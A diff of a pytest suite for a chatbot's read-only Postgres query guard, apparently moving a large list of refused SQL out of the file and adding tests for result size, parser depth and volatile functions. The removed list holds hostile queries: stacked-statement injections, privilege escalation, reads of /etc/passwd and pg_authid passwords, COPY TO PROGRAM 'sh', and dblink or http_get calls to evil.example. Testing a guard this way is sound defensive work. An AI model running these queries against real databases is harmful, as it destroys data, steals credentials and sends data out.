@@ -1,12 +1,15 @@
-"""The SQL tools against a real Postgres: as the reader of the sample data and, to be sure, as a superuser."""
+"""The SQL tools against a real Postgres, as the reader of the sample data and as an owner."""
 
 import asyncio
+import gc
 import os
 import signal
+import sys
 import time
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Awaitable
 from contextlib import suppress
 from decimal import Decimal
+from traceback import walk_stack
 
 import asyncpg
 import pytest
@@ -16,208 +19,22 @@ from hypothesis import strategies as st
 from langchain_core.tools import BaseTool
 from redis.asyncio import Redis
 
-from bot.embedded.postgres import installed_builds
-from bot.tools import Limits, ThreadMemory, ToolFailure, open_pool, role_report, toolset
-from bot.tools.sql import Pool, fetch
+from bot.tools import Limits, RoleCheck, ThreadMemory, ToolFailure, open_pool, toolset
+from bot.tools.sql import fetch
 from bot.tools.sql_format import Column, Result, markdown, point_at
-from bot.tools.sql_guard import MAX_QUERY_CHARS, check
+from bot.tools.sql_guard import READING, check, inspect, parse_one
+from bot.tools.sql_names import is_denied_function
+from bot.tools.sql_pool import Pool
+from tests.sql_attacks import ENDLESS
 from tests.waiting import wait_until
 
 SCRATCH = """
 CREATE TABLE accounts (id serial PRIMARY KEY, owner text NOT NULL, balance numeric NOT NULL);
 INSERT INTO accounts (owner, balance) VALUES ('ann', 10), ('ben', 20);
-CREATE SEQUENCE tickets_seq;
 CREATE VIEW rich AS SELECT owner FROM accounts WHERE balance > 15;
 CREATE FUNCTION pay() RETURNS int LANGUAGE sql VOLATILE AS 'UPDATE accounts SET balance = 0 RETURNING id';
 CREATE FUNCTION shout() RETURNS void LANGUAGE sql AS $$ SELECT pg_notify('everybody', 'stolen') $$;
-CREATE FUNCTION "Odd; name"() RETURNS int LANGUAGE sql AS 'SELECT 1';
-SELECT lo_from_bytea(4242, 'secret');
 """
-
-REFUSED = [
-    # writes
-    "INSERT INTO accounts VALUES (3, 'eve', 1)",
-    "UPDATE accounts SET balance = 0",
-    "DELETE FROM accounts",
-    "MERGE INTO accounts a USING accounts b ON a.id = b.id WHEN MATCHED THEN DELETE",
-    "TRUNCATE accounts",
-    "DROP TABLE accounts",
-    "ALTER TABLE accounts ADD COLUMN x int",
-    "CREATE TABLE loot AS SELECT * FROM accounts",
-    "CREATE TEMP TABLE loot (x int)",
-    "SELECT * INTO loot FROM accounts",
-    "SELECT * INTO TEMP loot FROM accounts",
-    "WITH gone AS (DELETE FROM accounts RETURNING *) SELECT * FROM gone",
-    "WITH a AS (WITH b AS (UPDATE accounts SET balance = 0 RETURNING *) SELECT * FROM b) SELECT * FROM a",
-    "SELECT * FROM accounts WHERE id IN (WITH x AS (INSERT INTO accounts VALUES (9) RETURNING id) TABLE x)",
-    "EXPLAIN ANALYZE DELETE FROM accounts",
-    "EXPLAIN (ANALYZE true) UPDATE accounts SET balance = 0",
-    "EXPLAIN ANALYZE CREATE TABLE loot AS SELECT 1",
-    "EXPLAIN ANALYZE WITH gone AS (DELETE FROM accounts RETURNING *) SELECT * FROM gone",
-    "EXPLAIN ANALYZE EXECUTE stolen",
-    "COMMENT ON TABLE accounts IS 'mine'",
-    "REFRESH MATERIALIZED VIEW rich",
-    "VACUUM FULL accounts",
-    "GRANT ALL ON accounts TO PUBLIC",
-    "CREATE ROLE eve SUPERUSER LOGIN",
-    "CREATE EXTENSION dblink",
-    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
-    "SECURITY LABEL ON TABLE accounts IS 'x'",
-    "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public",
-    # several statements, and what hides them
-    "SELECT 1; DELETE FROM accounts",
-    "SELECT 1;; DROP TABLE accounts;",
-    "SELECT 1 /* ; */; DROP TABLE accounts --",
-    "/* SELECT 1 */ DELETE FROM accounts",
-    "SELECT $$ ; $$; DELETE FROM accounts",
-    "SELECT $a$ $$ $a$; DROP TABLE accounts; SELECT $b$ $b$",
-    "SELECT E'\\'; DELETE FROM accounts; --'; TRUNCATE accounts",
-    "SELECT 1 -- \n; DELETE FROM accounts",
-    "SELECT 1) AS answer; DROP TABLE accounts; --",
-    "SELECT 1 \x00; DROP TABLE accounts",
-    # leaving the transaction, changing the session
-    "COMMIT",
-    "COMMIT; DELETE FROM accounts",
-    "ROLLBACK AND CHAIN",
-    "SAVEPOINT a",
-    "SET TRANSACTION READ WRITE",
-    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
-    "SET ROLE postgres",
-    "SET SESSION AUTHORIZATION postgres",
-    "SET statement_timeout = 0",
-    "SET search_path = evil",
-    "RESET ALL",
-    "DISCARD ALL",
-    "ALTER SYSTEM SET fsync = off",
-    "ALTER ROLE bot_reader SUPERUSER",
-    "SELECT set_config('transaction_read_only', 'off', true)",
-    "SELECT pg_catalog.set_config('statement_timeout', '0', false)",
-    "SELECT \"set_config\"('role', 'postgres', false)",
-    "SELECT * FROM set_config('search_path', 'evil', false)",
-    "SELECT SET_CONFIG('x.y', 'z', false)",
-    "SELECT U&\"\\0073et_config\"('x.y', 'z', false)",
-    # code and indirection
-    "DO $$ BEGIN DELETE FROM accounts; END $$",
-    "CALL pay()",
-    "PREPARE stolen AS DELETE FROM accounts",
-    "EXECUTE stolen",
-    "DECLARE c CURSOR WITH HOLD FOR SELECT 1",
-    "FETCH ALL FROM c",
-    "SELECT query_to_xml('DELETE FROM accounts', true, false, '')",
-    "SELECT cursor_to_xml('c', 1, true, false, '')",
-    "SELECT table_to_xml('pg_authid', true, false, '')",
-    "SELECT database_to_xml_and_xmlschema(true, false, '')",
-    "SELECT * FROM ts_stat('SELECT to_tsvector(owner) FROM accounts')",
-    "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, pay()::text::tsquery')",
-    "SELECT * FROM crosstab('DELETE FROM accounts RETURNING 1, 2, 3') AS t(a int, b int)",
-    "SELECT * FROM dblink('dbname=postgres', 'DROP TABLE accounts') AS t(a text)",
-    "SELECT dblink_exec('host=localhost', 'DROP TABLE accounts')",
-    "SELECT public.dblink_connect('host=evil.example')",
-    "SELECT http_get('http://evil.example')",
-    "SELECT net.http_post('http://evil.example')",
-    "SELECT cron.schedule('* * * * *', 'DROP TABLE accounts')",
-    # files, programs, large objects
-    "COPY accounts TO PROGRAM 'sh'",
-    "COPY (SELECT 1) TO '/tmp/loot'",
-    "COPY accounts FROM '/etc/passwd'",
-    "SELECT pg_read_file('/etc/passwd')",
-    "SELECT pg_read_file('/etc/passwd')::int",
-    "SELECT * FROM pg_ls_dir('/')",
-    "SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 3)) AS f(a, b)",
-    "SELECT (pg_stat_file('postgresql.conf')).size",
-    "SELECT encode(pg_read_binary_file('PG_VERSION'), 'hex')",
-    "SELECT lo_import('/etc/passwd')",
-    "SELECT lo_export(4242, '/tmp/loot')",
-    "SELECT lo_unlink(4242)",
-    "SELECT lo_get(4242)",
-    "SELECT lo_put(4242, 0, 'x')",
-    "SELECT pg_catalog.loread(lo_open(4242, 393216), 10)",
-    "SELECT data FROM pg_largeobject",
-    "LOAD 'evil'",
-    "SELECT * FROM pg_hba_file_rules",
-    # holding up, disturbing
-    "SELECT pg_sleep(60)",
-    "SELECT pg_catalog.pg_sleep_for('1 minute')",
-    "SELECT 1 WHERE EXISTS (SELECT pg_sleep(60))",
-    "SELECT CASE WHEN pg_sleep(60) IS NULL THEN 1 END",
-    "SELECT count(*) FILTER (WHERE pg_sleep(60) IS NULL) FROM accounts",
-    "SELECT 1 ORDER BY pg_sleep(60)",
-    "SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(60))",
-    "SELECT sum(1) OVER (ORDER BY pg_sleep(60)) FROM accounts",
-    "VALUES (pg_sleep(60))",
-    "SELECT f.pg_sleep FROM generate_series(60, 60) AS f",
-    "SELECT (f).pg_sleep FROM generate_series(60, 60) AS f",
-    "SELECT (SELECT f).pg_sleep FROM generate_series(60, 60) AS f",
-    "SELECT g.\"pg_read_file\" FROM (VALUES ('/etc/passwd')) AS v(g), LATERAL unnest(ARRAY[g]) AS g",
-    "SELECT pg_advisory_lock(1)",
-    "SELECT pg_try_advisory_xact_lock(1)",
-    "LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE",
-    "SELECT * FROM accounts FOR UPDATE",
-    "SELECT * FROM (SELECT * FROM accounts FOR SHARE) AS a",
-    "SELECT pg_terminate_backend(pid) FROM pg_stat_replication",
-    "SELECT pg_cancel_backend(1)",
-    "SELECT pg_reload_conf()",
-    "SELECT pg_switch_wal()",
-    "SELECT pg_promote()",
-    "SELECT pg_stat_reset()",
-    "SELECT pg_create_restore_point('x')",
-    "SELECT pg_logical_emit_message(false, 'a', 'b')",
-    "SELECT pg_create_physical_replication_slot('loot')",
-    "SELECT pg_export_snapshot()",
-    "SELECT pg_notify('everybody', 'hello')",
-    "SELECT nextval('tickets_seq')",
-    "SELECT setval('tickets_seq', 1000)",
-    "LISTEN everybody",
-    "NOTIFY everybody, 'hello'",
-    "CHECKPOINT",
-    # secrets
-    "SELECT rolpassword FROM pg_authid",
-    "TABLE pg_catalog.pg_shadow",
-    "SELECT query FROM pg_stat_activity",
-    "SELECT * FROM pg_stat_get_activity(NULL)",
-    # nothing at all
-    "",
-    ";",
-    "-- just a comment",
-    "SELECT $1",
-    "SELECT '\ud800'",
-    "SELECT " + "1," * MAX_QUERY_CHARS + "1",
-]
-
-ENDLESS = "SELECT count(*) FROM generate_series(1, 1e12)"
-
-HARMLESS = [
-    ENDLESS,
-    "SELECT " + "f(" * 3_000 + "1" + ")" * 3_000,
-    "SELECT " + "(" * 4_900 + "1" + ")" * 4_900,
-    "SELECT pay()",
-    "SELECT (SELECT pay()) FROM accounts",
-    "SELECT a.id FROM accounts AS a, LATERAL pay() AS p",
-    "EXPLAIN ANALYZE SELECT pay()",
-    "SELECT 'DROP TABLE accounts; --'",
-    "SELECT $$; DROP TABLE accounts; $$",
-    "SELECT '\\'; -- '",
-    'SELECT "Odd; name"()',
-    'SELECT 1 AS "; DROP TABLE accounts; --"',
-    "SELECT 1 -- ) AS answer; DROP TABLE accounts",
-    "SELECT 1 /* ) AS answer; DROP TABLE accounts",
-    "SELECT 1 /* ) AS answer; */",
-    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
-    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r",
-    "SELECT repeat('x', 50000000)",
-    "SELECT repeat('x', 2000000000)",
-    "SELECT repeat('x', 1000000)::int",
-    "SELECT array_fill(0, ARRAY[100000000, 100])",
-    "SELECT * FROM generate_series(1, 100000) AS a, generate_series(1, 100000) AS b",
-    "SELECT '(((((a+)+)+)+)+)+$' ~ repeat('(a+)+', 50)",
-    "SELECT 1/0",
-    "SELECT '/etc/passwd'::regclass",
-    "SELECT 'pg_sleep(60)'::regprocedure",
-    "SELECT xmlparse(DOCUMENT '<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>')",
-    "SELECT * FROM accounts TABLESAMPLE system (100)",
-    "SHOW ALL",
-    "TABLE rich",
-]
 
 
 @pytest_asyncio.fixture(scope="session")
@@ -278,47 +95,6 @@ async def values(pool: Pool, query: str) -> tuple[object, ...]:
     return row
 
 
-async def state(owner_url: str) -> str:
-    """Everything in the scratch database, as pg_dump writes it."""
-    program = next(builds / "pg_dump" for builds in installed_builds() if (builds / "pg_dump").exists())
-    process = await asyncio.create_subprocess_exec(
-        program, "--dbname", owner_url, "--large-objects", stdout=asyncio.subprocess.PIPE
-    )
-    output, _ = await process.communicate()
-    assert process.returncode == 0
-    # a random key, new in each dump
-    return "\n".join(line for line in output.decode().splitlines() if "restrict" not in line)
-
-
-@pytest.mark.parametrize("query", REFUSED, ids=lambda query: query[:60])
-def test_guard_refuses(query: str) -> None:
-    """Each is refused before the server sees it."""
-    with pytest.raises(ToolFailure):
-        check(query)
-
-
-async def test_red_team_changes_nothing_even_as_superuser(
-    owner_pool: Pool, owner: "asyncpg.Connection[asyncpg.Record]", owner_url: str
-) -> None:
-    """All of it, run as a superuser with small limits: nothing changes, nothing hangs, nothing stays."""
-    before = await state(owner_url)
-    limits = Limits(seconds=0.5)
-    for query in REFUSED + HARMLESS:
-        began = time.monotonic()
-        try:
-            text = markdown(await fetch(owner_pool, query, limits))
-        except ToolFailure as error:
-            text = str(error)
-        else:
-            assert query in HARMLESS
-        assert 0 < len(text) < 2 * limits.chars
-        assert time.monotonic() - began < 5, query
-    assert await state(owner_url) == before
-    assert await owner.fetchval("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'") == 0
-    assert await owner.fetchval("SELECT count(*) FROM pg_replication_slots") == 0
-    assert await values(owner_pool, "SELECT current_setting('statement_timeout')") == ("30s",)
-
-
 async def test_function_called_like_a_column_is_a_real_hole(
     owner: "asyncpg.Connection[asyncpg.Record]",
 ) -> None:
@@ -329,6 +105,17 @@ async def test_function_called_like_a_column_is_a_real_hole(
 async def test_writing_function_meets_the_read_only_transaction(owner_pool: Pool) -> None:
     """A function of the database passes the guard, but cannot write."""
     assert "Only reading is possible" in await failure(owner_pool, "SELECT pay()")
+
+
+async def test_function_of_an_extension_that_is_volatile_by_chance_runs(
+    owner: "asyncpg.Connection[asyncpg.Record]", owner_pool: Pool
+) -> None:
+    """Not everything volatile in C has effects; what is known not to is allowed."""
+    await owner.execute("CREATE EXTENSION tablefunc")
+    try:
+        assert len((await fetch(owner_pool, "SELECT * FROM normal_rand(2, 0, 1)", Limits())).rows) == 2
+    finally:
+        await owner.execute("DROP EXTENSION tablefunc")
 
 
 async def test_transaction_is_rolled_back(
@@ -372,6 +159,14 @@ async def test_backslash_means_the_same_to_guard_and_server(
         "SELECT 'é', U&'\\00e9', E'\\n', $$it's$$ ; -- ü",
         "SELECT * FROM orders AS o JOIN customers AS c ON c.id = o.customer_id",
         "SELECT random() < 2, now() IS NULL, gen_random_uuid() IS NULL, version() IS NULL",
+        "SELECT current_setting('statement_timeout'), current_setting('no_such_setting', true)",
+        "SHOW TimeZone",
+        "SELECT relname, reltuples FROM pg_class JOIN pg_namespace AS n ON n.oid = relnamespace",
+        "SELECT * FROM information_schema.columns",
+        "SELECT attname, n_distinct FROM pg_stats WHERE tablename = 'orders'",
+        "SELECT x.http_status, x.lo_value FROM (SELECT 200 AS http_status, 1 AS lo_value) AS x",
+        "SELECT name AS xpath FROM customers",
+        "SELECT * FROM json_table('[1, 2]', '$[*]' COLUMNS (x int PATH '$')) AS t",
     ],
 )
 async def test_reading_queries_run(pool: Pool, query: str) -> None:
@@ -407,6 +202,39 @@ async def test_columns_of_the_same_name_and_no_columns_are_shown(pool: Pool) -> 
     """The wrapping of the query survives what SQL allows at its top."""
     assert await values(pool, "SELECT 1 AS a, 2 AS a, 3") == (1, 2, 3)
     assert markdown(await fetch(pool, "SELECT FROM regions LIMIT 2", Limits())) == "2 rows."
+
+
+async def test_wide_result_is_cut_on_the_server(pool: Pool) -> None:
+    """Of 1,000 columns 60 arrive, with their types; the reader is told, and can name others."""
+    result = await fetch(pool, "SELECT 1" + ", 1" * 999, Limits())
+    assert (len(result.columns), len(result.rows[0]), result.hidden_columns) == (60, 60, 940)
+    assert "The first 60 of 1,000 columns: name those that you need." in markdown(result)
+
+
+async def test_numbers_are_cut_on_the_server_and_stay_numbers(pool: Pool) -> None:
+    """A numeric may have 131,072 digits; of each 501 characters leave the server."""
+    result = await fetch(
+        pool,
+        "SELECT repeat('9', 131000)::numeric, 1.50::numeric, 'NaN'::numeric::text, 'Infinity'::numeric",
+        Limits(),
+    )
+    (row,) = result.rows
+    assert len(str(row[0])) == 501
+    assert row[1:] == (Decimal("1.50"), "NaN", Decimal("Infinity"))
+    assert [column.type for column in result.columns] == ["numeric", "numeric", "text", "numeric"]
+
+
+async def test_type_called_like_a_number_is_read_as_text(
+    owner: "asyncpg.Connection[asyncpg.Record]", owner_pool: Pool
+) -> None:
+    """A schema may have its own `numeric`, of words."""
+    await owner.execute("CREATE SCHEMA odd; CREATE TYPE odd.numeric AS ENUM ('one'); ")
+    try:
+        result = await fetch(owner_pool, "SELECT 'one'::odd.numeric", Limits())
+        assert result.rows == (("one",),)
+        assert result.columns[0].type == "odd.numeric"
+    finally:
+        await owner.execute("DROP SCHEMA odd CASCADE")
 
 
 async def test_order_of_the_query_is_kept(pool: Pool) -> None:
@@ -456,10 +284,10 @@ async def test_syntax_error_points_at_the_place(pool: Pool) -> None:
     assert text == 'ERROR: syntax error at or near "FRM"\nLINE 1: SELECT * FRM orders\n                 ^'
 
 
-async def test_missing_privilege_is_told(database_url: str) -> None:
+async def test_missing_privilege_is_told(owner_url: str) -> None:
     """The role's rights are the last wall."""
-    async with open_pool(database_url, size=1) as pool:
-        assert "permission denied" in await failure(pool, "SELECT starelid FROM pg_statistic")
+    async with open_pool(owner_url.replace("postgres@", "bot_reader@", 1), size=1) as pool:
+        assert "permission denied for table accounts" in await failure(pool, "SELECT * FROM accounts")
 
 
 async def test_slow_query_is_stopped_and_told(pool: Pool) -> None:
@@ -530,42 +358,13 @@ async def test_unreachable_database_is_told_at_use(dsn: str) -> None:
     """The pool opens all the same, so the bot starts; health says down, the tool says so."""
     async with open_pool(dsn, size=2) as pool:
         assert "cannot be reached" in await failure(pool, "SELECT 1")
-        assert (await role_report(pool)).state == "down"
+        assert (await RoleCheck("warn").report(pool)).state == "down"
 
 
 async def test_concurrent_queries_share_a_small_pool(pool: Pool) -> None:
     """Twenty at once wait for the one connection, and all are answered."""
     answers = await asyncio.gather(*(values(pool, f"SELECT {number}") for number in range(20)))
     assert answers == [(number,) for number in range(20)]
-
-
-async def test_reader_may_only_read(pool: Pool) -> None:
-    """Health shows ping, version and that the role can do no harm."""
-    health = await role_report(pool)
-    assert health.state == "ok"
-    assert health.evidence["role"] == "bot_reader"
-    assert health.evidence["rights"] == "reads only"
-    assert health.evidence["version"].startswith("18")
-
-
-async def test_privileged_role_is_reported(owner_pool: Pool) -> None:
-    """A superuser's rights, and what it may write, stand in health."""
-    health = await role_report(owner_pool)
-    assert health.state == "degraded"
-    assert "is a superuser" in health.evidence["rights"]
-    assert "may write accounts" in health.evidence["rights"]
-
-
-async def test_role_that_may_write_one_column_is_reported(
-    owner: "asyncpg.Connection[asyncpg.Record]", owner_url: str
-) -> None:
-    """An ordinary role with a single right too many is noticed."""
-    await owner.execute("CREATE ROLE clerk LOGIN; GRANT UPDATE (balance) ON accounts TO clerk")
-    try:
-        async with open_pool(owner_url.replace("postgres@", "clerk@", 1), size=1) as pool:
-            assert (await role_report(pool)).evidence["rights"] == "may write accounts"
-    finally:
-        await owner.execute("REVOKE ALL ON accounts FROM clerk; DROP ROLE clerk")
 
 
 async def test_schema_overview_names_tables_columns_and_keys(tools: dict[str, BaseTool]) -> None:
@@ -658,6 +457,125 @@ async def test_tool_names_and_arguments_are_the_contract(tools: dict[str, BaseTo
         "memory_search": ["query"],
         "current_time": ["zone"],
     }
+
+
+async def test_table_with_many_columns_is_bounded(
+    owner: "asyncpg.Connection[asyncpg.Record]", owner_pool: Pool, redis: Redis
+) -> None:
+    """A thousand columns with comments do not flood the model; it is told where the rest is."""
+    names = [f"some_column_{number}" for number in range(1_000)]
+    comments = "; ".join(f"COMMENT ON COLUMN wide.{name} IS '{'x' * 300}'" for name in names)
+    await owner.execute(f"CREATE TABLE wide ({', '.join(f'{name} int' for name in names)}); {comments}")
+    try:
+        text = await toolset(owner_pool, ThreadMemory(redis, ttl_days=1))[0].ainvoke({"table": "wide"})
+        assert len(text) < 13_000
+        assert text.endswith("… and more; information_schema has the rest")
+    finally:
+        await owner.execute("DROP TABLE wide")
+
+
+async def test_unknown_table_of_any_length_is_answered_in_short(tools: dict[str, BaseTool]) -> None:
+    """The name is the model's: neither compared nor repeated whole."""
+    with pytest.raises(ToolFailure) as caught:
+        await tools["sql_schema"].ainvoke({"table": "x" * 1_000_000})
+    assert len(str(caught.value)) < 1_500
+
+
+@pytest.mark.parametrize("statement", ["INSERT INTO t VALUES (1)", "UPDATE t SET a = 1", "DELETE FROM t"])
+def test_guard_can_be_told_what_is_allowed(statement: str) -> None:
+    """One parser and one walk for reading and for what a person approves."""
+    parsed = parse_one(f" {statement} ; ")
+    assert parsed.text.strip() == statement
+    assert parsed.kind == statement.split()[0]
+    assert not parsed.is_select
+    inspect(parsed.tree, READING | {type(parsed.tree)}, "only writing is.")
+    with pytest.raises(ToolFailure, match=f"^{parsed.kind} is not allowed: only reading is.$"):
+        inspect(parsed.tree, READING, "only reading is.")
+
+
+def test_guard_tells_which_functions_may_be_called() -> None:
+    """Also those that look like columns."""
+    statement = check("SELECT a.b, (c).d, count(*) FROM f() AS a(c) WHERE x.g(1) = ANY (SELECT y FROM z)")
+    assert statement.calls == {"b", "d", "count", "f", "g"}
+
+
+SLOW_TO_READ = [
+    "SELECT " + "a, " * 3_000 + "1 FROM (SELECT 1 AS a) AS t",
+    "SELECT " + "(SELECT " * 1_000 + "1" + ")" * 1_000,
+    "SELECT 1" + " UNION SELECT 1" * 600,
+    "SELECT " + "1 + 1, " * 1_400 + "1",
+]
+
+
+@pytest.mark.parametrize("query", SLOW_TO_READ, ids=["names", "deep", "long", "columns"])
+async def test_reading_a_large_query_does_not_hold_the_loop(pool: Pool, query: str) -> None:
+    """The longest gap of a ticking task is a fraction of what reading the query takes on the loop.
+
+    In one of some tries: a collection of garbage, or another process, may stop everything for a while.
+    """
+    shares: list[float] = []
+    while not shares or min(shares) > 0.5:
+        assert len(shares) < 5, shares
+        gc.collect()
+        began = time.perf_counter()
+        check(query)
+        on_the_loop = time.perf_counter() - began
+        shares.append(await longest_gap(fetch(pool, query, Limits())) / on_the_loop)
+
+
+async def longest_gap(work: Awaitable[object]) -> float:
+    """For how long the loop did nothing else, at most, while it did `work`; in seconds."""
+    gaps: list[float] = []
+    ticking = asyncio.create_task(tick(gaps))
+    await wait_until(lambda: bool(gaps), "it ticks")
+    gaps.clear()
+    with suppress(ToolFailure):
+        await work
+    await asyncio.sleep(0)  # one more tick, after what came last
+    ticking.cancel()
+    return max(gaps)
+
+
+async def tick(gaps: list[float]) -> None:
+    """Note how long the loop was busy between two turns of ours."""
+    last = time.perf_counter()
+    while True:
+        await asyncio.sleep(0)  # one round of the loop
+        now = time.perf_counter()
+        gaps.append(now - last)
+        last = now
+
+
+def test_depth_of_a_query_costs_no_python_stack() -> None:
+    """The deepest that fit are read with hardly any frames left: there is no RecursionError to catch."""
+    limit = sys.getrecursionlimit()
+    sys.setrecursionlimit(sum(1 for _ in walk_stack(None)) + 40)
+    try:
+        for query in (SLOW_TO_READ[1], "SELECT 1" + " + 1" * 2_400, "SELECT " + "f(" * 3_000 + ")" * 3_000):
+            check(query)
+    finally:
+        sys.setrecursionlimit(limit)
+
+
+HARMLESS_VOLATILE = """
+amvalidate array_sample array_shuffle bernoulli brinhandler bthandler clock_timestamp current_query currtid2
+currval dsnowball_init dsnowball_lexize gen_random_uuid ginhandler gisthandler hashhandler
+heap_tableam_handler lastval pg_database_size pg_indexes_size pg_is_in_recovery pg_partition_ancestors
+pg_partition_tree pg_relation_size pg_table_size pg_total_relation_size plpgsql_validator random random_normal
+spghandler system timeofday txid_status uuidv4 uuidv7
+"""
+
+
+async def test_every_volatile_function_of_postgres_was_judged(
+    owner: "asyncpg.Connection[asyncpg.Record]",
+) -> None:
+    """What may have effects is refused by its name, or stands in the list above: a new version shows here."""
+    records = await owner.fetch("""
+        SELECT DISTINCT proname FROM pg_proc
+         WHERE provolatile = 'v' AND prorettype NOT IN ('trigger'::regtype, 'event_trigger'::regtype)
+           AND pronamespace IN ('pg_catalog'::regnamespace, 'information_schema'::regnamespace)""")
+    let_pass = {record["proname"] for record in records if not is_denied_function(record["proname"])}
+    assert let_pass == set(HARMLESS_VOLATILE.split())
 
 
 cells = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.decimals(), st.text())
